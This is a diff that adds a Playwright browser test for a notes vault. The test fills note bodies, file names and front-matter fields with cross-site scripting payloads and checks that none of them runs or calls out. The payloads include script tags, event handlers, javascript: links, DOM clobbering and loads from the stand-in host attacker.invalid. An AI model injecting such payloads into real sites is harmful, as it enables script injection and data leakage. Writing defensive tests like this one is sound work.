@@ -1,0 +1,101 @@
+"""No note runs anything: payloads of every class in bodies, names and fields, in a real browser."""
+
+import os
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Page
+
+from tests.browser.conftest import new_vault
+
+pytestmark = pytest.mark.browser
+REPOSITORY = Path(__file__).resolve().parents[2]
+
+BODIES = {
+    "script": "<script>window.NF1=1</script>",
+    "handler": "<img src=x onerror=window.NF2=1> <b onmouseover=window.NF3=1>x</b>",
+    "svg": "<svg onload=window.NF4=1><script>window.NF5=1</script></svg>",
+    "link": "[x](javascript:window.NF6=1) <a href=' jAvAsCrIpT:window.NF7=1'>x</a> [y]: javascript:window.NF8=1",
+    "frame": "<iframe src='javascript:window.NF9=1'></iframe><object data='data:text/html,<script>1</script>'></object>",
+    "style": "<style>@import url(https://attacker.invalid/x.css);</style><p style='background:url(https://attacker.invalid/y)'>x</p>",
+    "picture": "![x](https://attacker.invalid/t.gif) <img src=//attacker.invalid/t.gif>",
+    "base": "<base href=https://attacker.invalid/><meta http-equiv=refresh content='0;url=https://attacker.invalid'>",
+    "form": "<form action=https://attacker.invalid><input name=a autofocus onfocus=window.NF10=1></form>",
+    "clobber": "<a id=__config></a><a name=__md_scope id=__md_get></a>",
+    "open": "<div><!-- never closed",
+    "close": "</article></main></div></body></html><script>window.NF11=1</script>",
+    "mermaid": '```mermaid\ngraph TD; A-->B; click A "javascript:window.NF12=1"\n```',
+    "attributes": "x {: onclick=window.NF13=1 style=position:fixed } \n\n# h {#__search onclick=window.NF14=1}",
+    "template": '{{ 7*7 }} {% raw %} --8<-- "mkdocs.yml"',
+    "autolink": '<javascript:window.NF15=1> <https://ok.example/"onclick=window.NF16=1>',
+}
+NAME = '"<img src=x onerror=window.NF90=1>"'
+
+
+def flags(page: Page) -> list[str]:
+    return page.evaluate("Object.keys(window).filter(k => /^NF\\d+$/.test(k))")
+
+
+def visit(page: Page, served: object, addresses: list[str]) -> list[str]:
+    """What ran or was asked for on these pages."""
+    found: list[str] = []
+    page.on(
+        "request", lambda r: None if r.url.startswith(("http://127.0.0.1:", "data:", "blob:")) else found.append(r.url)
+    )
+    page.on("dialog", lambda d: (found.append(d.message), d.dismiss()))
+    for address in addresses:
+        page.goto(served.address + address)
+        page.evaluate(
+            "document.querySelectorAll('article *').forEach(e => { e.dispatchEvent(new Event('mouseover')); e.focus && e.focus() })"
+        )
+        found += [f"{address}: {flag}" for flag in flags(page)]
+        if page.locator(".md-footer, footer").count() == 0 or page.locator("header").count() == 0:
+            found.append(f"{address}: the theme is not whole")
+    return found
+
+
+def addresses_of(vault: Path) -> list[str]:
+    tree = vault / ".netfiles" / "tree"
+    return [
+        f"{p.relative_to(tree).as_posix().removesuffix('.md')}/".removesuffix("index/")
+        for p in sorted(tree.rglob("*.md"))
+    ]
+
+
+def test_nothing_of_ours_made_payloads_runs(serve: Callable[..., object], tmp_path: Path, page: Page):
+    files = {
+        f"contacts/{n}.md": f"---\nname: {NAME}\naliases: [{NAME}]\ntitle: {NAME}\ncompany: {NAME}\nlocation: {NAME}\ntags: [{NAME}]\nlinks: 'javascript:window.NF91=1'\nmet_at: {NAME}\ncan_help: {NAME}\nkeep_in_touch: 1w\n---\n{b}\n"
+        for n, b in BODIES.items()
+    }
+    files |= {
+        f"journal/2026-11-{n:02} {k}.md": f"---\nwith: '[[{k}]]'\ntitle: {NAME}\nask: {NAME}\nasked: job\nintroduced: {NAME}\nnext: {NAME}\nnext_on: 2026-11-18\ngot: help\n---\n{b}\n"
+        for n, (k, b) in enumerate(BODIES.items(), 1)
+    }
+    files["career/companies/evil.md"] = (
+        f"---\nname: {NAME}\ntarget: A\nwhy: {NAME}\nindustry: {NAME}\nwebsite: 'javascript:window.NF92=1'\n---\n{BODIES['script']}\n"
+    )
+    files["career/goals/evil.md"] = f"---\ntitle: {NAME}\nmeasure: interactions\ntarget: 3\n---\n{BODIES['handler']}\n"
+    files["contacts/<img src=x onerror=window.NF93=1>.md"] = "---\nbirthday: 2026-02-30\n---\n"
+    served = serve(new_vault(tmp_path / "evil", files))
+    addresses = addresses_of(served.vault)
+    assert len(addresses) > 25
+    assert visit(page, served, addresses) == []
+
+
+@pytest.mark.soak
+def test_nothing_of_the_catalogue_runs(serve: Callable[..., object], tmp_path: Path, page: Page):
+    catalogue = Path(os.environ.get("NETFILES_BADINPUT", REPOSITORY.parent / "shared" / "badinput"))
+    if not catalogue.is_dir():
+        pytest.skip("the catalogue of bad files is not here")
+    vault = new_vault(tmp_path / "catalogue", {})
+    for group in ("yaml", "markdown", "links", "edit"):
+        for source in sorted((catalogue / group).rglob("*.md")):
+            name = source.relative_to(catalogue).as_posix().replace("/", " ")
+            (vault / "contacts" / name).write_bytes(source.read_bytes())
+            (vault / "journal" / f"2026-11-01 {name}").write_bytes(source.read_bytes())
+            (vault / "career/companies" / name).write_bytes(source.read_bytes())
+    for source in sorted((catalogue / "markdown").glob("attachment*")):
+        (vault / "attachments" / source.name).write_bytes(source.read_bytes())
+    served = serve(vault)
+    assert visit(page, served, addresses_of(vault)) == []
